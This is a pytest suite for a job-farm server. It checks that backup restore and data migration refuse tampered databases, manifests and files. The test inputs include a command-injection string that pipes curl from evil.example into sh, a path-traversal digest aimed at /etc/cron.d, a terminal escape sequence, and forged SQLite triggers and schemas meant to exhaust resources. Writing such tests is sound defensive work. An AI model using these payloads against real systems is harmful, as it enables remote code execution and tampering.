"""Backups and data folders that were in other hands: links, devices, sizes that lie, databases that etfarm did not write."""

from __future__ import annotations

import dataclasses
import json
import os
import re
import sqlite3
import stat
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from etfarm.device_agents.daemon.data_folder import DataFolder as AgentFolder
from etfarm.server.artifacts.blobs import place_of, write_blob
from etfarm.server.artifacts.s3.location import BucketLocation
from etfarm.server.backup.backup import back_up
from etfarm.server.backup.errors import BackupDamaged
from etfarm.server.backup.manifest import NAME, read
from etfarm.server.backup.restore import restore
from etfarm.server.migrate.migration import Migration, Place
from etfarm.server.state.folder import locked
from etfarm.server.state.sqlite import SqliteDatabase
from etfarm.server.transfer.artifacts import FileArtifacts, copy_artifacts
from etfarm.server.transfer.database import FarmDatabase, copy_rows
from etfarm.server.transfer.errors import CopyDiffers
from etfarm.wire import digest as digests
from etfarm.wire.errors import FarmError, UserError
from tests.support.refusals import refuses

BYTES = b"a program" * 1000
NOW = "2026-11-27 10:00:00.000000"
Forge = Callable[[sqlite3.Connection], object]


@pytest.fixture
async def data(tmp_path: Path) -> Path:
    """The data folder of a farm with a job, its log, an artifact and a token."""
    folder = tmp_path / "data"
    folder.mkdir(mode=0o700)
    database = SqliteDatabase(folder / "farm.sqlite")
    await database.open()
    database.close()
    digest = write_blob(folder, BYTES).digest
    with closing(sqlite3.connect(folder / "farm.sqlite")) as connection, connection:
        insert(connection, "artifacts", digest=digest, size_bytes=len(BYTES), owner="ann", stored_at=NOW)
        insert(connection, "holdings", holder="default", digest=digest, owner="ann", held_at=NOW)
        insert(
            connection, "jobs", id="4f9d0c1b2a3e5f60", number=1, name="n\0\N{SNOWMAN}", owner="ann", request_id="r", priority=0,
            spec=b"\0\xff", submitted_at=NOW, last_sequence=1 << 62,
        )  # fmt: skip
        for number in range(300):
            insert(
                connection, "log_lines", job_id="4f9d0c1b2a3e5f60", number=number, at=NOW, cell_id="", source="s", text="x" * 200
            )
        insert(
            connection, "tokens", id="t", principal="ann", role="admin", secret_hash=b"h" * 32, enrolment=False, created_at=NOW,
            created_by="ann",
        )  # fmt: skip
        insert(
            connection, "device_health", device_id="d", state=1, reason="", since=NOW, score=0.1, faults=0, fault="", slower="",
            good_runs=1, failed_runs=0,
        )  # fmt: skip
        insert(
            connection, "audit", at=NOW, principal="ann", role="admin", peer="", action="a", subject="", outcome="OK", detail=""
        )
    return folder


@pytest.fixture
def backup(data: Path, tmp_path: Path) -> Path:
    back_up(data, tmp_path / "backup")
    return tmp_path / "backup"


def insert(connection: sqlite3.Connection, table: str, **values: Any) -> None:
    names, marks = ", ".join(values), ", ".join("?" * len(values))
    connection.execute(f"INSERT INTO {table} ({names}) VALUES ({marks})", list(values.values()))


def forge(backup: Path, change: Forge, **stated: int) -> None:
    """Change a backup's database, and its manifest, so that they fit each other: anybody who has the folder can."""
    manifest = read(backup)
    path = backup / manifest.database
    with closing(sqlite3.connect(path)) as connection:
        connection.execute("PRAGMA writable_schema=ON")
        change(connection)
        connection.commit()
    values: dict[str, Any] = {"database_sha256": digests.of_file(path), "database_bytes": path.stat().st_size}
    dataclasses.replace(manifest, **values | stated).write(backup)


def run(*statements: str) -> Forge:
    return lambda connection: [connection.execute(each) for each in statements]


def content_of(database: Path) -> tuple[list[Any], list[str]]:
    """Return the schema and the rows of a database, but for the time of the farm's, which a restore sets."""
    with closing(sqlite3.connect(database)) as connection:
        schema = connection.execute("SELECT type, name, sql FROM sqlite_master ORDER BY name").fetchall()
        # SQLAlchemy writes the foreign keys of a table that it changes in any order.
        schema = [(kind, name, sorted(re.findall(r"\w+|[^\w\s,]", text or ""))) for kind, name, text in schema]
        lines = [line for line in connection.iterdump() if line.startswith("INSERT")]
        return schema, sorted(line.partition(",")[0] if line.startswith('INSERT INTO "farm"') else line for line in lines)


def recreated(table: str, definition: str) -> Forge:
    """Replace a table by another one with the same rows, as far as the definition has their columns."""

    def change(connection: sqlite3.Connection) -> None:
        connection.execute(f"ALTER TABLE {table} RENAME TO former")
        connection.execute(definition)
        columns = ", ".join(f'"{row[1]}"' for row in connection.execute(f"PRAGMA table_xinfo({table})") if not row[6])
        connection.execute(f"INSERT INTO {table} ({columns}) SELECT {columns} FROM former")
        connection.execute("DROP TABLE former")

    return change


def test_a_restored_farm_equals_the_one_that_was_backed_up(data: Path, backup: Path, tmp_path: Path) -> None:
    restore(backup, tmp_path / "restored", keep_identity=True)
    assert content_of(tmp_path / "restored" / "farm.sqlite") == content_of(data / "farm.sqlite")
    names = {path.name for path in (tmp_path / "restored").iterdir()}
    assert names == {"farm.sqlite", "artifacts"}


HARMLESS: dict[str, Forge] = {
    "a trigger that creates tokens": run(
        "CREATE TRIGGER helpful AFTER INSERT ON log_lines BEGIN INSERT INTO tokens SELECT 'x' || NEW.number, 'eve', 'admin', "
        "randomblob(32), 0, NULL, NEW.at, 'eve', NULL, NULL, NULL; END"
    ),
    "a trigger without end": run(
        "CREATE TRIGGER slow AFTER INSERT ON jobs BEGIN INSERT INTO tags SELECT 'default', n, 'eve', NEW.id, NEW.submitted_at "
        "FROM (WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c) SELECT n FROM c); END"
    ),
    "a weakened trigger": run("DROP TRIGGER audit_no_delete", "DROP TRIGGER audit_no_update"),
    "a view": run("CREATE VIEW everything AS WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c) SELECT n FROM c"),
    "an index of an expression": run("CREATE INDEX heavy ON jobs (hex(zeroblob(length(id) * 1000000)))"),
    "a table of its own": run("CREATE TABLE eve (x)", "INSERT INTO eve VALUES ('y')"),
    "a check that takes memory": recreated(
        "artifacts",
        "CREATE TABLE artifacts (digest VARCHAR PRIMARY KEY, size_bytes INTEGER NOT NULL, owner VARCHAR NOT NULL, "
        "stored_at DATETIME NOT NULL, CHECK (length(hex(zeroblob(200000000))) > 0))",
    ),
    "a log of its own": lambda connection: connection.execute("PRAGMA journal_mode=WAL"),
}


@pytest.mark.parametrize("name", HARMLESS)
def test_nothing_of_a_backups_schema_is_in_the_restored_farm(data: Path, backup: Path, tmp_path: Path, name: str) -> None:
    forge(backup, HARMLESS[name])
    restore(backup, tmp_path / "restored", keep_identity=True)
    assert content_of(tmp_path / "restored" / "farm.sqlite") == content_of(data / "farm.sqlite")


def test_logs_beside_a_backups_database_are_not_read(data: Path, backup: Path, tmp_path: Path) -> None:
    database = backup / read(backup).database
    with closing(sqlite3.connect(tmp_path / "other")) as other:
        other.execute("PRAGMA journal_mode=WAL")
        other.execute("CREATE TABLE strange (number INTEGER)")
        for suffix in ("-wal", "-shm"):
            database.with_name(database.name + suffix).write_bytes((tmp_path / f"other{suffix}").read_bytes())
    database.with_name(f"{database.name}-journal").write_bytes(b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7" + bytes(1000))
    restore(backup, tmp_path / "restored", keep_identity=True)
    assert content_of(tmp_path / "restored" / "farm.sqlite") == content_of(data / "farm.sqlite")


def without_text(connection: sqlite3.Connection) -> None:
    """Give each row of the log a text of 0.9 MB, which the file has once."""
    connection.execute("CREATE TABLE lines AS SELECT job_id, number, at, cell_id, source FROM log_lines")
    connection.execute("DROP TABLE log_lines")
    connection.execute("ALTER TABLE lines RENAME TO log_lines")
    connection.execute(f"ALTER TABLE log_lines ADD COLUMN text VARCHAR NOT NULL DEFAULT '{'x' * 900_000}'")


ENDLESS = "WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c) SELECT"
REFUSED: dict[str, tuple[Forge, str]] = {
    "a view for a table": (
        run("DROP TABLE jobs", f"CREATE VIEW jobs AS {ENDLESS} n AS id, n AS number, '' AS name FROM c"), "no table 'jobs'"
    ),
    "a view under a table's name": (
        run(
            "CREATE VIEW v AS SELECT 1 AS id",
            "UPDATE sqlite_master SET type = 'table', sql = 'CREATE VIEW tags AS SELECT 1' WHERE name = 'tags'",
        ),
        "tags",
    ),
    "a virtual table": (run("CREATE VIRTUAL TABLE extra USING fts5(x)"), "'extra', which is no table"),
    "a virtual table for a table": (run("DROP TABLE tags", "CREATE VIRTUAL TABLE tags USING fts5(name, owner)"), "'tags', which"),
    "a generated column": (
        recreated(
            "artifacts",
            "CREATE TABLE artifacts (digest VARCHAR PRIMARY KEY, size_bytes INTEGER NOT NULL, stored_at DATETIME NOT NULL, "
            "owner VARCHAR AS (hex(zeroblob(100000000))))",
        ),
        "no column 'owner', or computes it",
    ),
    "a missing column": (run("ALTER TABLE jobs DROP COLUMN spec"), "no column 'spec'"),
    "rows that do not fit into the file": (without_text, "more rows than fit into it"),
    "a schema that cannot be parsed": (
        run("UPDATE sqlite_master SET sql = 'CREATE TABLE jobs (' WHERE name = 'jobs'"), "cannot be read"
    ),
    "a statement beside the schema": (
        run("UPDATE sqlite_master SET sql = 'CREATE /**/ TABLE jobs (id)' WHERE name = 'jobs'"), "no table|cannot be read"
    ),
    "another revision": (run("UPDATE alembic_version SET version_num = '0017'"), "its revision is not 0020"),
    "a path for a digest": (run("UPDATE artifacts SET digest = '../../../../etc/cron.d/x'"), "'artifacts' has a 'digest'"),
    "a negative size": (run("UPDATE artifacts SET size_bytes = -5"), "'artifacts' has a 'size_bytes'"),
    "a text for a number": (run("UPDATE jobs SET last_sequence = 'many'"), "'jobs' has a 'last_sequence'"),
    "bytes for a text": (run("UPDATE jobs SET owner = x'00ff'"), "'jobs' has a 'owner'"),
    "a text that is no UTF-8": (run("UPDATE jobs SET owner = CAST(x'ff' AS TEXT)"), "'jobs' cannot be read"),
    "a time that is none": (run("UPDATE jobs SET submitted_at = 'noon'"), "'jobs' has a 'submitted_at'"),
    "a time of a zone": (run("UPDATE jobs SET submitted_at = '2026-01-01 00:00:00+01:00'"), "'jobs' has a 'submitted_at'"),
    "a dangling reference": (run("PRAGMA foreign_keys=OFF", "DELETE FROM jobs"), "that is missing"),
    "two rows of one key": (
        lambda connection: (
            recreated(
                "holdings",
                "CREATE TABLE holdings (holder VARCHAR, digest VARCHAR, owner VARCHAR, held_at DATETIME)",
            )(connection),
            connection.execute("INSERT INTO holdings SELECT * FROM holdings"),
        ),
        "contradict each other",
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED)
def test_a_database_that_etfarm_did_not_write_is_refused(backup: Path, tmp_path: Path, name: str) -> None:
    change, why = REFUSED[name]
    forge(backup, change)
    with pytest.raises(BackupDamaged, match=f"is not one that etfarm wrote: .*({why})") as refused:
        restore(backup, tmp_path / "restored", keep_identity=True)
    assert len(refused.value.message) < 1_000
    assert not (tmp_path / "restored" / "farm.sqlite").exists()


def test_pages_that_are_used_twice_end_the_restore(backup: Path, tmp_path: Path) -> None:
    def share(connection: sqlite3.Connection) -> None:
        page_bytes = connection.execute("PRAGMA page_size").fetchone()[0]
        root = connection.execute("SELECT rootpage FROM sqlite_master WHERE name = 'log_lines'").fetchone()[0]
        connection.commit()
        with (backup / read(backup).database).open("r+b") as file:
            file.seek((root - 1) * page_bytes)
            page = bytearray(file.read(page_bytes))
            assert page[0] == 5  # an inner page
            cells = [int.from_bytes(page[12 + 2 * i : 14 + 2 * i], "big") for i in range(int.from_bytes(page[3:5], "big"))]
            for cell in cells[1:]:
                page[cell : cell + 4] = page[cells[0] : cells[0] + 4]
            file.seek((root - 1) * page_bytes)
            file.write(page)

    forge(backup, share)
    with pytest.raises(BackupDamaged, match=r"contradict each other|cannot be read"):
        restore(backup, tmp_path / "restored", keep_identity=True)


def blob_of(backup: Path) -> Path:
    return place_of(backup / "artifacts" / "blobs", digests.of_bytes(BYTES))


def link_blob(backup: Path, outside: Path) -> None:
    blob_of(backup).rename(outside)
    blob_of(backup).symlink_to(outside)


def link_folder(backup: Path, outside: Path) -> None:
    blob_of(backup).parent.rename(outside)
    blob_of(backup).parent.symlink_to(outside)


def link_artifacts(backup: Path, outside: Path) -> None:
    (backup / "artifacts").rename(outside)
    (backup / "artifacts").symlink_to(outside)


def link_database(backup: Path, outside: Path) -> None:
    database = backup / read(backup).database
    database.rename(outside)
    database.symlink_to(outside)


def link_manifest(backup: Path, outside: Path) -> None:
    (backup / NAME).rename(outside)
    (backup / NAME).symlink_to(outside)


def replace_by(node: str, what: Callable[[Path], Path]) -> Callable[[Path, Path], None]:
    def change(backup: Path, _outside: Path) -> None:
        path = what(backup)
        path.unlink()
        if node == "pipe":
            os.mkfifo(path)
        elif node == "device":  # as /dev/zero
            os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 5))
        elif node == "folder":
            path.mkdir()
        else:
            with path.open("wb") as file:
                file.truncate(1 << 40)  # takes no space

    return change


def database_of(backup: Path) -> Path:
    return backup / read(backup).database


STRANGE: dict[str, Callable[[Path, Path], None]] = {
    "a linked artifact": link_blob, "a linked folder of artifacts": link_folder, "linked artifacts": link_artifacts,
    "a linked database": link_database, "a linked manifest": link_manifest,
} | {
    f"a {node} for {name}": replace_by(node, what)
    for node in ("pipe", "device", "folder", "terabyte")
    for name, what in (("an artifact", blob_of), ("the database", database_of), ("the manifest", lambda backup: backup / NAME))
}  # fmt: skip


@pytest.mark.parametrize("name", STRANGE)
def test_only_regular_files_of_the_stated_size_are_read(backup: Path, tmp_path: Path, name: str) -> None:
    STRANGE[name](backup, tmp_path / "outside")
    with pytest.raises(BackupDamaged):
        restore(backup, tmp_path / "restored", keep_identity=True)
    assert not (tmp_path / "restored" / "farm.sqlite").exists()


def test_a_backup_of_hard_links_is_restored_as_files_of_their_own(data: Path, tmp_path: Path) -> None:
    back_up(data, tmp_path / "linked", link=True)
    restore(tmp_path / "linked", tmp_path / "restored")
    blob = blob_of(tmp_path / "restored")
    assert blob.stat().st_nlink == 1 and blob.read_bytes() == BYTES


@pytest.mark.parametrize("stated", [{"artifacts": 2}, {"artifact_bytes": 1}, {"artifact_bytes": 1 << 60}])
def test_artifacts_must_be_those_of_the_manifest(backup: Path, tmp_path: Path, stated: dict[str, int]) -> None:
    forge(backup, lambda connection: None, **stated)
    with pytest.raises(BackupDamaged, match="other artifacts than its manifest"):
        restore(backup, tmp_path / "restored", keep_identity=True)


def test_a_backup_that_does_not_fit_is_refused_before_it_fills_the_disk(backup: Path, tmp_path: Path) -> None:
    size = 1 << 60
    forge(backup, run(f"UPDATE artifacts SET size_bytes = {size}"), artifact_bytes=size)
    with refuses("BACKUP_FAILED", match=f"needs {size} bytes of disk"):
        restore(backup, tmp_path / "restored", keep_identity=True)
    assert not (tmp_path / "restored" / "artifacts").exists()
    forge(backup, lambda connection: None, database_bytes=size)
    with refuses("BACKUP_FAILED", match=f"needs {2 * size} bytes of disk"):
        restore(backup, tmp_path / "restored", keep_identity=True)


@pytest.mark.parametrize(
    "values",
    [
        {"version": "0.5'; curl evil.example | sh #"}, {"created_at": "\x1b]0;x\x07"}, {"revision": 17}, {"artifacts": -1},
        {"artifacts": True}, {"database_bytes": 1.5}, {"missing": ["../x"]}, {"missing": "x"}, {"database": "../farm.sqlite"},
        {"database_sha256": ""}, {"more": 1},
    ],
)  # fmt: skip
def test_a_manifest_has_only_what_a_backup_writes(backup: Path, tmp_path: Path, values: dict[str, Any]) -> None:
    manifest = json.loads((backup / NAME).read_text())
    (backup / NAME).write_text(json.dumps(manifest | values))
    with pytest.raises(BackupDamaged) as refused:
        restore(backup, tmp_path / "restored", keep_identity=True)
    assert "\x1b" not in str(refused.value)


NOWHERE = Place(
    None,
    BucketLocation.of(
        "s3://bucket/farm", {"AWS_ACCESS_KEY_ID": "a", "AWS_SECRET_ACCESS_KEY": "b"}, endpoint="http://127.0.0.1:1"
    ),
)  # fmt: skip
"""A place that cannot be reached, so that a move that is not refused fails in another way."""


def move(data: Path) -> None:
    Migration(data, Place(None, None), NOWHERE, lambda what, done, total: None).run()


def change_folder(data: Path, change: Forge) -> None:
    with closing(sqlite3.connect(data / "farm.sqlite")) as connection:
        connection.execute("PRAGMA writable_schema=ON")
        change(connection)
        connection.commit()


TRIGGERS = ("a trigger that creates tokens", "a trigger without end")
LATER = ("another revision", "a dangling reference", "two rows of one key")
"""What the target's tables refuse, if they have to."""


@pytest.mark.parametrize("name", [*TRIGGERS, *(name for name in REFUSED if name not in LATER)])
def test_a_folder_whose_database_was_changed_is_not_moved(data: Path, name: str) -> None:
    change_folder(data, HARMLESS[name] if name in TRIGGERS else REFUSED[name][0])
    with pytest.raises(FarmError) as refused:
        move(data)
    assert refused.value.reason in ("DATABASE_FOREIGN", "DATABASE_DAMAGED")
    assert len(refused.value.message) < 1_000
    assert not (data / "migrating").exists()


@pytest.mark.parametrize(
    "name", ["farm.sqlite.copying", "farm.sqlite.moved", "artifacts/blobs.moved", "artifacts/cache", "migrating"]
)
def test_no_move_writes_through_a_link(data: Path, tmp_path: Path, name: str) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "kept").write_text("kept")
    (data / name).symlink_to(outside)
    with refuses("MOVE_FAILED", match=f"{data / name} is a link"):
        move(data)
    assert [path.name for path in outside.iterdir()] == ["kept"] and (outside / "kept").read_text() == "kept"


@pytest.mark.parametrize("name", ["server.lock", "lock"])
def test_a_lock_is_no_link(tmp_path: Path, name: str) -> None:
    data, outside = tmp_path / "data", tmp_path / "outside"
    data.mkdir(mode=0o700)
    outside.write_text("kept")
    (data / name).symlink_to(outside)
    with pytest.raises(UserError, match=str(data)):
        if name == "lock":
            AgentFolder(data)
        with locked(data):
            pass
    assert outside.read_text() == "kept"


@pytest.mark.parametrize(("digest", "size_bytes"), [("../../../x", 1), ("ab", 1), ("ab" * 32, -1), ("AB" * 32, 1)])
async def test_a_database_names_no_paths_for_a_copy(tmp_path: Path, digest: str, size_bytes: int) -> None:
    source, target = FileArtifacts(tmp_path / "a"), FileArtifacts(tmp_path / "b" / "c" / "d")
    with pytest.raises(CopyDiffers, match="names the artifact"):
        await copy_artifacts(source, target, iter([(digest, size_bytes)]), 1, lambda what, done, total: None)
    assert list(tmp_path.iterdir()) == []


def test_rows_without_end_leave_room_on_the_disk(data: Path, tmp_path: Path) -> None:
    room_bytes = 1 << 62  # more than any disk has
    with FarmDatabase(data / "farm.sqlite").connected() as source, source.begin(), pytest.raises(OSError, match="No space"):
        copy_rows(source, FarmDatabase(tmp_path / "copy.sqlite"), "a farm", lambda what, done, total: None, room_bytes)
